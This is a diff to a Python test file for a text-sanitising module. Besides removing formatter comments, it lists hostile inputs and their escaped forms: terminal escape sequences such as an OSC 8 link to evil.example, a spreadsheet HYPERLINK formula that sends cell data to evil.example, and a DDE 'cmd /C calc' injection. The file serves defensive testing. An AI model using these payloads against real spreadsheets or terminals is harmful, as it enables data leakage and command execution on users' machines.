@@ -31,7 +31,7 @@ from callmate.safe import (
         (
             "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
             "␛]8;;http://evil.example␛\\click␛]8;;␛\\",
-        ),  # OSC 8 hyperlink  # fmt: skip
+        ),  # OSC 8 hyperlink
         ("\x1b[6n", "␛[6n"),  # query the cursor: the answer would be typed into the shell
         ("\x9b31m", "⟨U+009B⟩31m"),  # C1 CSI
         ("\x9d0;title\x9c", "⟨U+009D⟩0;title⟨U+009C⟩"),  # C1 OSC ... ST
@@ -216,7 +216,7 @@ def test_pad_refuses_an_unknown_alignment():
         (
             '=HYPERLINK("http://evil.example?"&A1,"Click")',
             '\'=HYPERLINK("http://evil.example?"&A1,"Click")',
-        ),  # fmt: skip
+        ),
         ("+90 532 123 45 67", "'+90 532 123 45 67"),
         ("-5", "'-5"),  # a string is text, even when it looks like a number
         ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
